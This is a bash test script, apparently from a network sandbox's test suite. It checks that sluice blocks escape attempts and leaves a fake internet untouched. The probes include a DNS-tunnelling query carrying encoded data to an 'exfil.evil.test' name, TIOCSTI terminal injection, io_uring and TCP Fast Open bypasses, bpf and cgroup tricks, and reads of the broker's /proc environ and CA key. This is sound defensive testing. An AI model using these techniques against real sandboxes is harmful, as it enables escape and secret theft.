#!/bin/bash
# SPDX-License-Identifier: MIT
# Escape attempts below HTTP, each inside `sluice run` with the real sluiced,
# once as the default user (nobody) and once as uid 0 without capabilities:
# QUIC (UDP 443, v4/v6/mapped), non-DNS data and a DNS-tunnel name to a
# foreign resolver's port 53, TCP Fast Open (MSG_FASTOPEN and
# TCP_FASTOPEN_CONNECT), io_uring (socket+connect+send without the syscalls),
# raw/packet/ping variants not in test_kernel_enforce, the x32 syscall ABI,
# TLS and plain HTTP to a raw IP, `unshare -n` / a user+net namespace, a user+
# cgroup namespace with a private cgroup2 mount and a child cgroup, bpf()
# against sluice's own objects, and AF_UNIX. For each: the expected refusal,
# and nothing reached the fake internet (connection, datagram and request
# counters unchanged).
#
# AF_UNIX by path is not mediated by sluice (no IP leaves through it; cgroup
# socket hooks see only AF_INET/AF_INET6): a host daemon listening on a path
# the sandbox can open is reachable, and what it does for the sandbox is its
# own business - do not expose such daemons (docker.sock...) to a sandbox.
# Abstract unix sockets (no path to hide, names shared with the host's network
# namespace: X's @/tmp/.X11-unix/X0) are out of reach (Landlock scope), by
# connect and by sendto, while the sandbox's own still work. What else this
# test holds sluice to: sluice itself listens on no unix socket, and the
# sandbox cannot read the broker's CA key, its /proc environ (where secret
# values live) or its open files.
. "$(dirname "$0")/../lib.sh"
sl_begin escape_kernel
sl_need_bins "$SLUICE" "$SLUICED"
fi_up

cc -O1 -Wall -Wextra -Werror -o "$T/escape_probe" "$SL_ROOT/tests/escape/escape_probe.c" 2>"$T/cc.log" ||
	sl_fail "escape_probe did not compile: $(cat "$T/cc.log")"
mkdir -p "$T/mnt" && chmod 777 "$T/mnt"

export SL_ESC_TOKEN=esc-secret-$$-$RANDOM
cat >"$T/policy.yaml" <<EOF
rules:
  - {action: allow, host: "api.test"}
secrets:
  TOK: {env: SL_ESC_TOKEN, hosts: [api.test]}
EOF
# The broker through a wrapper that records its PID (for the /proc probes).
cat >"$T/broker.sh" <<EOF
#!/bin/sh
echo \$\$ >"$T/broker.pid"
exec "$SLUICED" "\$@"
EOF
chmod 755 "$T/broker.sh"

# A host daemon on a unix socket path, outside the sandbox.
cat >"$T/unixd.py" <<'EOF'
import os, socket, sys
p = sys.argv[1]
s = socket.socket(socket.AF_UNIX)
if p.startswith("@"):
    s.bind("\0" + p[1:])   # abstract: no file, no permissions
else:
    s.bind(p); os.chmod(p, 0o777)
s.listen(8)
while True:
    c, _ = s.accept(); open(sys.argv[2], "a").write("x\n"); c.sendall(b"HOSTUNIX\n"); c.close()
EOF
sl_bg hostunix "$PY" "$T/unixd.py" "$T/host.sock" "$T/hostunix.log"
# ssh's listening sockets, found by what holds them (processes named ssh or sshd) and hidden:
# - a ControlMaster, bound as OpenSSH's mux.c does it: at ControlPath.<16 random characters>,
#   linked to ControlPath, the bound name unlinked (/proc/net/unix keeps the gone name);
# - an `ssh -L fwd.sock:...` forward bound by a relative name in ssh's working directory;
# - sshd's agent-forwarding socket (ssh-XXXX/agent.N) stays: an agent signs, it carries nothing.
cat >"$T/sshmux.py" <<'EOF'
import os, socket, sys
final = sys.argv[1]; tmp = final + ".Xq3vR8kLmN2pT7wZ"
s = socket.socket(socket.AF_UNIX); s.bind(tmp); os.chmod(tmp, 0o777); s.listen(8)
os.link(tmp, final); os.unlink(tmp)
while True:
    c, _ = s.accept(); open(sys.argv[2], "a").write("x\n"); c.sendall(b"HOSTUNIX\n"); c.close()
EOF
mkdir -p "$T/bin" "$T/fwd" "$T/ssh-Ab12Cd/" && chmod 777 "$T/fwd" "$T/ssh-Ab12Cd"
ln -s "$(readlink -f "$PY")" "$T/bin/ssh"; ln -s "$(readlink -f "$PY")" "$T/bin/sshd"
sl_bg sshcm "$T/bin/ssh" "$T/sshmux.py" "$T/cm-api.test-22" "$T/sshcm.log"
sl_bg sshfwd bash -c "cd '$T/fwd' && exec '$T/bin/ssh' '$T/unixd.py' fwd.sock '$T/sshfwd.log'"
sl_bg sshdagent "$T/bin/sshd" "$T/unixd.py" "$T/ssh-Ab12Cd/agent.4242" "$T/sshdagent.log"
sl_wait_for test -S "$T/cm-api.test-22" || sl_fail "ssh ControlMaster stand-in did not start"
sl_wait_for test -S "$T/fwd/fwd.sock" || sl_fail "ssh forward stand-in did not start"
sl_wait_for test -S "$T/ssh-Ab12Cd/agent.4242" || sl_fail "sshd agent stand-in did not start"
[ "$(cat /proc/"$(cat "$T/sshcm.pid")"/comm)" = ssh ] || sl_fail "the ControlMaster stand-in is not named ssh"
grep -q " $T/cm-api.test-22.Xq3vR8kLmN2pT7wZ\$" /proc/net/unix ||
	sl_fail "/proc/net/unix does not show the ControlMaster's bound (temporary) name"
# The session's runtime dir (/run/user/UID) is an empty one of the sandbox's own: stand-ins for a
# session daemon (PulseAudio's native socket), ssh-agent ($SSH_AUTH_SOCK: stays) and gpg-agent
# (kept with --keep-socket) in each sandbox user's runtime dir, made here if the host has none.
RT_ID=sluice-esc-$$
NOBODY_UID=$(id -u nobody)
mkdir -m 777 "$T/rtlog"  # the stand-ins run as the sandbox users and log their accepts here
[ -d /run/user ] || { mkdir -m 755 /run/user && sl_defer "rmdir /run/user"; }
for u in "$NOBODY_UID" 0; do
	rt=/run/user/$u
	if [ ! -d "$rt" ]; then
		mkdir -m 700 "$rt" && sl_defer "rm -rf $rt" && chown "$u" "$rt" || sl_fail "cannot make $rt"
	fi
	sl_defer "rm -rf $rt/$RT_ID-gnupg $rt/$RT_ID-*.sock"
	mkdir -m 700 "$rt/$RT_ID-gnupg" && chown "$u" "$rt/$RT_ID-gnupg" || sl_fail "cannot make $rt/$RT_ID-gnupg"
	for n in pulse agent; do
		sl_bg "rt$u$n" setpriv --reuid="$u" --regid="$(id -g "$( [ "$u" = 0 ] && echo root || echo nobody)")" --clear-groups \
			"$PY" "$T/unixd.py" "$rt/$RT_ID-$n.sock" "$T/rtlog/$u$n"
	done
	sl_bg "rt${u}gpg" setpriv --reuid="$u" --regid="$(id -g "$( [ "$u" = 0 ] && echo root || echo nobody)")" --clear-groups \
		"$PY" "$T/unixd.py" "$rt/$RT_ID-gnupg/S.gpg-agent" "$T/rtlog/${u}gpg"
	for n in "$RT_ID-pulse.sock" "$RT_ID-agent.sock" "$RT_ID-gnupg/S.gpg-agent"; do
		sl_wait_for test -S "$rt/$n" || sl_fail "runtime dir stand-in $rt/$n did not start"
	done
done
# Host daemons on abstract unix sockets (a stream one as X's, a datagram one as a logger's).
ABS=sluice-esc-abs-$$
sl_bg hostabs "$PY" "$T/unixd.py" "@$ABS" "$T/hostabs.log"
cat >"$T/absdgram.py" <<'EOF'
import socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.bind("\0" + sys.argv[1])
while True:
    d = s.recv(4096); open(sys.argv[2], "a").write("x\n")
EOF
sl_bg hostabsdgram "$PY" "$T/absdgram.py" "$ABS-dgram" "$T/hostabsdgram.log"
sl_wait_for grep -q "@$ABS\$" /proc/net/unix || sl_fail "host abstract unix daemon did not start"
sl_wait_for grep -q "@$ABS-dgram\$" /proc/net/unix || sl_fail "host abstract datagram daemon did not start"
sl_wait_for test -S "$T/host.sock" || sl_fail "host unix daemon did not start"
# Terminal multiplexer servers run what a client asks outside the sandbox (tmux run-shell):
# the one sluice runs under ($TMUX) and the sandbox user's default tmux socket are hidden.
# Stand-ins listen where tmux would; the default one only if this host has none there.
mkdir -m 777 "$T/tmux"
sl_bg tmuxenv "$PY" "$T/unixd.py" "$T/tmux/default" "$T/tmuxenv.log"
TMUXD=/tmp/tmux-$NOBODY_UID
if [ ! -e "$TMUXD" ]; then
	mkdir -m 700 "$TMUXD" && chown nobody "$TMUXD" && sl_defer "rm -rf $TMUXD"
	sl_bg tmuxuid "$PY" "$T/unixd.py" "$TMUXD/default" "$T/tmuxuid.log"
	sl_wait_for test -S "$TMUXD/default" || sl_fail "stand-in tmux server did not start"
fi
sl_wait_for test -S "$T/tmux/default" || sl_fail "stand-in tmux server (TMUX) did not start"
export TMUX="$T/tmux/default,4242,0"

# sluice's own objects, to aim bpf() at.
MAPID=$(bpftool -j map show pinned /sys/fs/bpf/sluice/sluice_sandboxes 2>/dev/null | "$PY" -c 'import json,sys; print(json.load(sys.stdin)["id"])' 2>/dev/null)

cat >"$T/probe.py" <<EOF
import errno, os, socket, struct, sys
FI4, FI6 = "$FI_IP4", "$FI_IP6"
def out(*a): print(*a, flush=True)
def en(e): return errno.errorcode.get(e.errno, str(e.errno))
def udp(name, fam, addr, data, wait=1.5):
    s = socket.socket(fam, socket.SOCK_DGRAM); s.settimeout(wait)
    try:
        s.sendto(data, addr)
    except OSError as e:
        return out(name, "error", en(e))
    try:
        d, src = s.recvfrom(2048); out(name, "reply", d.hex())
    except socket.timeout:
        out(name, "sent-noreply")
    except OSError as e:
        out(name, "recv-error", en(e))
def mksock(name, fam, typ, proto):
    try:
        socket.socket(fam, typ, proto).close(); out(name, "CREATED")
    except OSError as e:
        out(name, "error", en(e))
def tcp(name, fam, addr):
    s = socket.socket(fam); s.settimeout(3)
    try:
        s.connect(addr); s.sendall(b"PROBE\n"); d = s.recv(64)
        out(name, "connected data=[%s]" % d.decode("latin-1").split("\r\n")[0].strip())
    except OSError as e:
        out(name, "error", en(e))
mode = sys.argv[1]
if mode == "main":
    quic = bytes([0xc3, 0, 0, 0, 1]) + os.urandom(1195)   # a QUIC long-header Initial's size
    udp("quic4", socket.AF_INET, (FI4, 443), quic)
    udp("quic6", socket.AF_INET6, (FI6, 443), quic)
    udp("quicmapped", socket.AF_INET6, ("::ffff:" + FI4, 443), quic)
    udp("dnsdata", socket.AF_INET, (FI4, 53), b"SECRET-PAYLOAD-NOT-DNS" * 10)
    udp("dnsdata6", socket.AF_INET6, (FI6, 53), b"SECRET-PAYLOAD-NOT-DNS" * 10)
    # A well-formed query whose name carries data (DNS tunnelling) under a name no rule allows.
    q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for lab in ("c2VjcmV0LWRhdGE", "exfil", "evil", "test"):
        q += bytes([len(lab)]) + lab.encode()
    q += b"\0" + struct.pack("!HH", 1, 1)
    udp("dnstunnel", socket.AF_INET, (FI4, 53), q)
    mksock("raw4tcp", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    mksock("raw4udp", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    mksock("raw6", socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    mksock("ping6", socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
    mksock("packetdgram", socket.AF_PACKET, socket.SOCK_DGRAM, 0x0300)
    # NETLINK_ROUTE (getaddrinfo, getifaddrs) stays; sock_diag (4: owners and peers of the host's
    # sockets), uevents (15: the host's devices), netfilter (12: nf_tables, with a user namespace's
    # CAP_NET_ADMIN) and generic netlink (16) do not.
    for name, proto in (("netlinkroute", 0), ("netlinkdiag", 4), ("netlinkuevent", 15), ("netlinknf", 12),
                        ("netlinkgeneric", 16)):
        try:
            socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, proto).close(); out(name, "opened")
        except OSError as e:
            out(name, "error", en(e))
    # The sandbox's own tmux still works: its tmux directory is an empty one of its own.
    try:
        d = "/tmp/tmux-%d" % os.getuid(); os.makedirs(d, mode=0o700, exist_ok=True)
        t = socket.socket(socket.AF_UNIX); t.bind(d + "/own"); t.listen(1)
        c = socket.socket(socket.AF_UNIX); c.connect(d + "/own"); out("tmuxown connected")
        c.close(); t.close(); os.unlink(d + "/own")
    except OSError as e:
        out("tmuxown error", en(e))
    out("tmuxvar", "set" if "TMUX" in os.environ else "absent")
    for name, path in (("unix", "$T/host.sock"), ("tmuxenv", "$T/tmux/default"), ("tmuxuid", "$TMUXD/default"),
                       ("sshcm", "$T/cm-api.test-22"), ("sshfwd", "$T/fwd/fwd.sock"),
                       ("sshdagent", "$T/ssh-Ab12Cd/agent.4242")):
        u = socket.socket(socket.AF_UNIX); u.settimeout(3)
        try:
            u.connect(path); out(name + " connected", u.recv(64).decode().strip())
        except OSError as e:
            out(name + " error", en(e))
    rt = "/run/user/%d" % os.getuid()
    for name, path in (("rtpulse", rt + "/$RT_ID-pulse.sock"), ("rtagent", rt + "/$RT_ID-agent.sock"),
                       ("rtgpg", rt + "/$RT_ID-gnupg/S.gpg-agent")):
        u = socket.socket(socket.AF_UNIX); u.settimeout(3)
        try:
            u.connect(path); out(name + " connected", u.recv(64).decode().strip())
        except OSError as e:
            out(name + " error", en(e))
    try:
        open(rt + "/own", "w").write("x"); os.unlink(rt + "/own"); out("rtwrite ok")
    except OSError as e:
        out("rtwrite error", en(e))
    # Abstract unix sockets: the host's are out of reach, the sandbox's own work.
    u = socket.socket(socket.AF_UNIX); u.settimeout(3)
    try:
        u.connect("\0$ABS"); out("abstract connected", u.recv(64).decode().strip())
    except OSError as e:
        out("abstract error", en(e))
    u = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    try:
        u.sendto(b"PROBE", "\0$ABS-dgram"); out("abstractdgram sent")
    except OSError as e:
        out("abstractdgram error", en(e))
    try:
        t = socket.socket(socket.AF_UNIX); t.bind("\0$ABS-own-%d" % os.getpid()); t.listen(1)
        c = socket.socket(socket.AF_UNIX); c.connect("\0$ABS-own-%d" % os.getpid()); out("abstractown connected")
        c.close(); t.close()
    except OSError as e:
        out("abstractown error", en(e))
    bp = open("$T/broker.pid").read().strip()
    for what in ("environ", "mem", "fd"):
        p = "/proc/%s/%s" % (bp, what)
        try:
            if what == "fd":
                out("proc-" + what, "READ", len(os.listdir(p)))
            else:
                open(p, "rb").read(64); out("proc-" + what, "READ")
        except OSError as e:
            out("proc-" + what, "error", en(e))
    try:
        open("$T/ca/ca.key", "rb").read(); out("cakey READ")
    except OSError as e:
        out("cakey error", en(e))
    # Any unix socket the broker holds would show in /proc/net/unix with its inode in its fds.
    try:
        inodes = set(os.readlink("/proc/%s/fd/%s" % (bp, f)) for f in os.listdir("/proc/%s/fd" % bp))
        out("brokerunix", "visible", len([i for i in inodes if i.startswith("socket:")]))
    except OSError as e:
        out("brokerunix", "error", en(e))
if mode in ("main", "tiocsti"):
    # TIOCSTI pushes input into a terminal; into the caller's, it runs commands
    # outside the sandbox. A pty of its own, made the controlling terminal.
    import fcntl, termios
    try:
        m, s = os.openpty()
        sys.stdout.flush()
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid(); fcntl.ioctl(s, termios.TIOCSCTTY, 0)
                fcntl.ioctl(s, termios.TIOCSTI, b"x"); os.write(1, b"tiocsti pushed\n")
            except OSError as e:
                os.write(1, ("tiocsti error %s\n" % en(e)).encode())
            os._exit(0)
        os.waitpid(pid, 0)
    except OSError as e:
        out("tiocsti setup-error", en(e))
if mode in ("main", "keys"):
    # request_key("dns_resolver", name): the host's request-key helper would
    # resolve the name outside the sandbox (keyutils installed)
    import ctypes, platform
    nr = {"x86_64": 249, "aarch64": 218}.get(platform.machine())
    libc = ctypes.CDLL(None, use_errno=True)
    if nr is None:
        out("request_key unknown-arch")
    else:
        r = libc.syscall(nr, b"dns_resolver", b"sluice-probe.test", None, 0)
        out("request_key", "ok" if r >= 0 else "error", errno.errorcode.get(ctypes.get_errno(), ctypes.get_errno()))
if mode == "tcp":
    tcp(sys.argv[2], socket.AF_INET, (FI4, 9000))
    tcp(sys.argv[2] + "6", socket.AF_INET6, (FI6, 9000))
EOF

# The host's cgroup2 root (from mountinfo: /sys/fs/cgroup or, on a hybrid host, .../unified).
CG2=$(awk '{ for (i = 7; i <= NF; i++) if ($i == "-") { if ($(i + 1) == "cgroup2") { print $5; exit } break } }' \
	/proc/self/mountinfo)
[ -n "$CG2" ] || sl_fail "no cgroup2 mount in /proc/self/mountinfo"

cat >"$T/inner.sh" <<EOF
P=/usr/bin/python3; E="$T/escape_probe"
\$E clone3 $CG2 $FI_IP4 9000
\$P "$T/probe.py" main
\$E tfo $FI_IP4 9000; \$E tfo $FI_IP6 9000; \$E tfo ::ffff:$FI_IP4 9000
\$E tfo-connect $FI_IP4 9000
\$E tfo $FI_IP4 443
\$E iouring $FI_IP4 9000; \$E iouring $FI_IP6 9000
\$E x32
\$E bpf ${MAPID:-1} 1 1
# TLS to a raw IP (no SNI) and plain HTTP to a raw IP naming a denied host.
curl -sk --max-time 5 -o /dev/null -w 'rawtls4 code=%{http_code}\n' https://$FI_IP4/hello; echo "rawtls4 rc=\$?"
curl -sk --max-time 5 -o /dev/null -w 'rawtls6 code=%{http_code}\n' "https://[$FI_IP6]/hello"; echo "rawtls6 rc=\$?"
curl -s --max-time 5 -o /dev/null -w 'rawhttp code=%{http_code}\n' -H 'Host: evil.test' http://$FI_IP4/hello; echo "rawhttp rc=\$?"
unshare -n true 2>/dev/null && echo "unshare-n OK" || echo "unshare-n refused"
unshare -Urn \$P "$T/probe.py" tcp usernet 2>&1 | sed 's/^/userns /'
# A user+mount+cgroup namespace, a private cgroup2 mount, a child cgroup, then connect.
unshare -Urm -C sh -c '
	mount -t cgroup2 none "$T/mnt" 2>/dev/null && echo "cgmount OK" || echo "cgmount refused"
	if mkdir "$T/mnt/esc\$\$" 2>/dev/null && echo \$\$ >"$T/mnt/esc\$\$/cgroup.procs" 2>/dev/null; then
		echo "cgchild moved \$(cat /proc/self/cgroup)"
	else
		echo "cgchild refused"
	fi
	/usr/bin/python3 "$T/probe.py" tcp cgns
' 2>&1
EOF

run_probes() { # label [--user root]
	local label=$1; shift
	local c9000 c443 c80 u443 u53 req abs
	c9000=$(fi_conns 9000); c443=$(fi_conns 443); c80=$(fi_conns 80)
	u443=$(fi_udp_count 443); u53=$(fi_udp_count 53); req=$(fi_requests 443 | wc -l)
	abs=$(cat "$T/hostabs.log" "$T/hostabsdgram.log" 2>/dev/null | wc -l)
	rm -f "$T/broker.pid"
	local ru=$NOBODY_UID; [ "$label" = root ] && ru=0
	out=$(SSH_AUTH_SOCK=/run/user/$ru/$RT_ID-agent.sock sluice_run --policy "$T/policy.yaml" --run-dir "$T/run" \
		--ca-dir "$T/ca" --audit "$T/audit.log" --broker "$T/broker.sh" \
		--keep-socket "/run/user/$ru/$RT_ID-gnupg/S.gpg-agent" "$@" -- bash "$T/inner.sh" 2>"$T/run-$label.err")
	echo "$out" >"$T/out-$label.txt"
	sl_log "[$label] probe output:"; echo "$out" | sed 's/^/    /' >&2
	L="[$label]"
	for n in quic4 quic6 quicmapped; do
		sl_assert_contains "$out" "$n error EPERM" "$L $n: UDP 443 refused in the kernel"
	done
	for n in dnsdata dnsdata6; do
		sl_assert_not_contains "$out" "$n error" "$L $n: the datagram went somewhere (the broker's resolver)"
		# The broker's resolver answers what it cannot parse with a bare header
		# (FORMERR, or NOTIMP for the opcode bits these bytes hold): the two
		# id bytes back and nothing else of the payload.
		echo "$out" | grep -Eq "^$n reply 5345c10[14]0{16}\$" ||
			sl_fail "$L $n: non-DNS data to port 53 got more than a bare error header: $(echo "$out" | grep "^$n ")"
		sl_ok "$L $n: non-DNS data to port 53 gets only a bare error header"
	done
	# REFUSED (rcode 5) for a name no rule could allow; the id 0x1234 echoed.
	sl_assert_contains "$out" "dnstunnel reply 1234" "$L DNS-tunnel query answered by the broker"
	echo "$out" | grep -q '^dnstunnel reply 1234...5' || sl_fail "$L DNS-tunnel name not REFUSED: $(echo "$out" | grep dnstunnel)"
	sl_ok "$L DNS-tunnel name REFUSED"
	for n in raw4tcp raw4udp raw6 ping6 packetdgram; do
		sl_assert_contains "$out" "$n error" "$L $n socket refused"
	done
	sl_assert_not_contains "$out" "CREATED" "$L no raw/packet/ping socket created"
	sl_assert_contains "$out" "netlinkroute opened" "$L NETLINK_ROUTE opens (getaddrinfo, getifaddrs; it carries no traffic out)"
	sl_assert_contains "$out" "netlinkdiag error EPROTONOSUPPORT" "$L NETLINK_SOCK_DIAG (the host's sockets, unix paths included) refused by sluice's seccomp filter"
	sl_assert_contains "$out" "netlinkuevent error EPROTONOSUPPORT" "$L NETLINK_KOBJECT_UEVENT (the host's device events) refused by sluice's seccomp filter"
	sl_assert_contains "$out" "netlinknf error EPROTONOSUPPORT" "$L NETLINK_NETFILTER (nf_tables) refused by sluice's seccomp filter"
	sl_assert_contains "$out" "netlinkgeneric error EPROTONOSUPPORT" "$L NETLINK_GENERIC refused by sluice's seccomp filter"
	sl_assert_eq 4 "$(echo "$out" | grep -c '^tfo connected data=\[HTTP/1.1 400 Bad Request\]')" "$L TCP Fast Open (v4, v6, mapped, 443) went to the broker, which refused the data"
	sl_assert_contains "$out" "tfo-connect connected data=[HTTP/1.1 400 Bad Request]" "$L TCP_FASTOPEN_CONNECT went to the broker"
	sl_assert_not_contains "$out" "data=[hello]" "$L no probe (TFO, io_uring, namespaces) got the fake internet's greeting"
	sl_assert_contains "$out" "iouring setup-error ENOSYS" "$L io_uring_setup refused by sluice's seccomp filter"
	sl_assert_contains "$out" "tiocsti error EPERM" "$L TIOCSTI (typing into a terminal) refused by sluice's seccomp filter"
	sl_assert_contains "$out" "request_key error ENOSYS" "$L request_key (the kernel's DNS resolver upcall) refused by sluice's seccomp filter"
	sl_assert_contains "$out" "x32 ENOSYS" "$L x32 syscall ABI unavailable (kernel built without it)"
	sl_assert_contains "$out" "clone3 error ENOSYS" "$L clone3 (CLONE_INTO_CGROUP into the host's root cgroup) refused by sluice's seccomp filter"
	for n in map-by-id prog-by-id link-by-id prog-load-cgroup map-create; do
		sl_assert_contains "$out" "bpf $n EPERM" "$L bpf(): $n refused"
	done
	sl_assert_contains "$out" "bpf obj-get ENOENT" "$L bpf(): sluice's pinned maps are not reachable (bpffs hidden)"
	sl_assert_contains "$out" "rawtls4 code=000" "$L TLS to a raw IPv4 (no SNI) refused"
	sl_assert_contains "$out" "rawtls6 code=000" "$L TLS to a raw IPv6 (no SNI) refused"
	sl_assert_contains "$out" "rawhttp code=403" "$L plain HTTP to a raw IP naming a denied host: 403"
	sl_assert_contains "$out" "unshare-n refused" "$L unshare -n refused (no CAP_SYS_ADMIN)"
	sl_assert_not_contains "$out" "userns usernet connected" "$L a user+net namespace has no way out"
	if echo "$out" | grep -q '^cgmount'; then
		sl_assert_contains "$out" "cgns connected data=[HTTP/1.1 400 Bad Request]" "$L in a new cgroup namespace (own cgroup2 mount) the connect still goes to the broker (which refuses non-HTTP)"
		sl_assert_contains "$out" "cgns6 connected data=[HTTP/1.1 400 Bad Request]" "$L ... and over IPv6"
	else
		sl_assert_contains "$out" "uid_map" "$L unshare -U refused (uid_map), so no new cgroup namespace"
	fi
	sl_assert_contains "$out" "unix connected HOSTUNIX" "$L AF_UNIX to a host daemon by path: reachable (not mediated, documented)"
	sl_assert_contains "$out" "rtpulse error ENOENT" "$L a session daemon's socket in the runtime dir is gone (an empty runtime dir of the sandbox's own)"
	sl_assert_contains "$out" "rtagent connected HOSTUNIX" "$L ssh-agent's socket (\$SSH_AUTH_SOCK) in the runtime dir stays reachable"
	sl_assert_contains "$out" "rtgpg connected HOSTUNIX" "$L a socket kept with --keep-socket (gpg-agent's) stays reachable"
	[ "$label" = root ] || sl_assert_contains "$out" "rtwrite ok" "$L the sandbox can write its own runtime dir"
	[ -s "$T/rtlog/${ru}agent" ] && [ -s "$T/rtlog/${ru}gpg" ] || sl_fail "$L the kept sockets did not reach their own daemons"
	[ -s "$T/rtlog/${ru}pulse" ] && sl_fail "$L the session daemon in the runtime dir was reached"
	sl_ok "$L the kept sockets reached their daemons, the hidden one nothing"
	sl_assert_contains "$out" "abstract error EPERM" "$L a host daemon's abstract unix socket: connect refused (Landlock scope)"
	sl_assert_contains "$out" "abstractdgram error EPERM" "$L a host daemon's abstract datagram socket: sendto refused (Landlock scope)"
	sl_assert_contains "$out" "abstractown connected" "$L the sandbox's own abstract unix sockets work"
	sl_assert_contains "$out" "sshcm error" "$L an ssh ControlMaster socket (bound as OpenSSH does, then linked to its ControlPath) is hidden"
	sl_assert_contains "$out" "sshfwd error" "$L an ssh unix forward bound by a relative name is hidden"
	sl_assert_contains "$out" "sshdagent connected HOSTUNIX" "$L sshd's agent-forwarding socket stays (it signs, carries nothing)"
	sl_assert_contains "$out" "tmuxenv error" "$L the tmux server sluice runs under (\$TMUX) is hidden"
	sl_assert_contains "$out" "tmuxuid error" "$L the sandbox user's default tmux socket (/tmp/tmux-UID) is hidden"
	sl_assert_contains "$out" "tmuxown connected" "$L the sandbox's own tmux directory works (an empty one of its own)"
	sl_assert_contains "$out" "tmuxvar absent" "$L \$TMUX is not passed into the sandbox"
	for n in environ mem; do
		sl_assert_contains "$out" "proc-$n error" "$L the broker's /proc/PID/$n is not readable"
	done
	# Checked last (after the traffic counters) so one hole does not hide the others.
	case "$out" in *"cakey error"*) sl_ok "$L the CA key (--ca-dir) is not readable" ;;
	*) HOLES+=("$L the sandbox can read the broker's CA private key $T/ca/ca.key") ;; esac
	sl_assert_contains "$out" "brokerunix error" "$L the broker's open files and sockets cannot be resolved (readlink /proc/PID/fd/N)"
	sl_assert_eq "$c9000" "$(fi_conns 9000)" "$L nothing reached the fake internet's TCP 9000"
	sl_assert_eq "$c443" "$(fi_conns 443)" "$L nothing reached the fake internet's 443"
	sl_assert_eq "$c80" "$(fi_conns 80)" "$L nothing reached the fake internet's 80"
	sl_assert_eq "$u443" "$(fi_udp_count 443)" "$L no datagram reached UDP 443"
	sl_assert_eq "$u53" "$(fi_udp_count 53)" "$L no datagram reached the foreign resolver"
	sl_assert_eq "$req" "$(fi_requests 443 | wc -l)" "$L no HTTPS request reached the fake internet"
	sl_assert_eq "$abs" "$(cat "$T/hostabs.log" "$T/hostabsdgram.log" 2>/dev/null | wc -l)" "$L nothing reached the host's abstract unix daemons"
	sl_assert_not_contains "$out" "$SL_ESC_TOKEN" "$L the secret value never appeared in the sandbox"
}

# Outside the sandbox the same helpers work (so a refusal inside is sluice's doing).
c0=$(fi_conns 9000)
o=$("$T/escape_probe" iouring "$FI_IP4" 9000; "$T/escape_probe" tfo "$FI_IP4" 9000)
sl_assert_contains "$o" "iouring connected data=[hello]" "outside: io_uring connect works on this kernel"
sl_assert_contains "$o" "tfo connected data=[hello]" "outside: TCP Fast Open connect works"
sl_assert_eq $((c0 + 2)) "$(fi_conns 9000)" "outside: both reached the fake internet"
# clone3 into the root cgroup, outside the sandbox: the probe can move a child and connect.
o=$("$T/escape_probe" clone3 "$CG2" "$FI_IP4" 9000)
sl_assert_contains "$o" "clone3 moved connected data=[hello]" "outside: clone3(CLONE_INTO_CGROUP) works on this kernel"
# The abstract unix probes, outside: both daemons take what comes (so EPERM inside is sluice's doing).
o=$("$PY" - <<EOF
import socket
u = socket.socket(socket.AF_UNIX); u.connect("\0$ABS"); print("abstract connected", u.recv(64).decode().strip())
socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"OUT", "\0$ABS-dgram")
EOF
)
sl_assert_contains "$o" "abstract connected HOSTUNIX" "outside: the host's abstract unix daemon answers"
for n in cm-api.test-22 fwd/fwd.sock; do
	o=$("$PY" -c 'import socket,sys; u=socket.socket(socket.AF_UNIX); u.connect(sys.argv[1]); print("connected", u.recv(64).decode().strip())' "$T/$n")
	sl_assert_contains "$o" "connected HOSTUNIX" "outside: the ssh stand-in at $n answers"
done
sl_wait_for grep -q x "$T/hostabsdgram.log" || sl_fail "outside: the abstract datagram did not arrive"
sl_ok "outside: the abstract datagram daemon takes datagrams"
# sock_diag outside: an unprivileged dump lists the host's listening unix sockets, paths included.
o=$(setpriv --reuid=nobody --regid=nogroup --clear-groups "$PY" - "$T/host.sock" <<'EOF'
import socket, struct, sys
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4)
# unix_diag_req: family AF_UNIX, all states, UDIAG_SHOW_NAME; nlmsg type SOCK_DIAG_BY_FAMILY, DUMP
req = struct.pack("=BBHIIIII", socket.AF_UNIX, 0, 0, 0xffffffff, 0, 1, 0, 0)
s.send(struct.pack("=IHHII", 16 + len(req), 20, 0x301, 1, 0) + req)
s.settimeout(5)
data, done = b"", False
while not done:
    d = s.recv(65536); data += d; off = 0
    while off + 16 <= len(d):
        ln, typ = struct.unpack_from("=IH", d, off)
        if typ in (2, 3) or ln < 16: done = True; break   # NLMSG_ERROR, NLMSG_DONE
        off += (ln + 3) & ~3
print("sockdiag", "lists" if sys.argv[1].encode() in data else "misses", "the host daemon's path")
EOF
)
sl_assert_contains "$o" "sockdiag lists the host daemon's path" "outside: sock_diag answers an unprivileged caller about the host's sockets"
o=$("$PY" "$T/probe.py" keys 2>&1)
sl_assert_not_contains "$o" "ENOSYS" "outside: request_key exists on this kernel ($o)"
o=$("$PY" "$T/probe.py" tiocsti 2>&1)
case "$(cat /proc/sys/dev/tty/legacy_tiocsti 2>/dev/null)" in
1) sl_assert_contains "$o" "tiocsti pushed" "outside: TIOCSTI works on this kernel" ;;
*) sl_log "this kernel refuses TIOCSTI itself ($o)" ;;
esac

HOLES=()
run_probes nobody
run_probes root --user root --writable "$T"
sl_assert_eq "" "$(find "$T/run" "$T/ca" -type s)" "sluice made no unix socket in its run or CA dirs"
# A run directory inside the runtime dir: the sandbox keeps the runtime dir (its CA bundle is in
# the run directory), and sluice says so.
sl_defer "rm -rf /run/user/$NOBODY_UID/$RT_ID-run"
o=$(sluice_run --run-dir "/run/user/$NOBODY_UID/$RT_ID-run" --ca-dir "$T/ca" --allow api.test -- \
	curl -sS -o /dev/null -w 'code=%{http_code}\n' --max-time 10 https://api.test/hello 2>&1)
sl_assert_contains "$o" "code=200" "a run directory inside the runtime dir: the sandbox still trusts the CA and gets through"
sl_assert_contains "$o" "keeps the runtime dir" "... and sluice warns that the runtime dir stays as it is"
# --keep-socket takes unix sockets only, and says so.
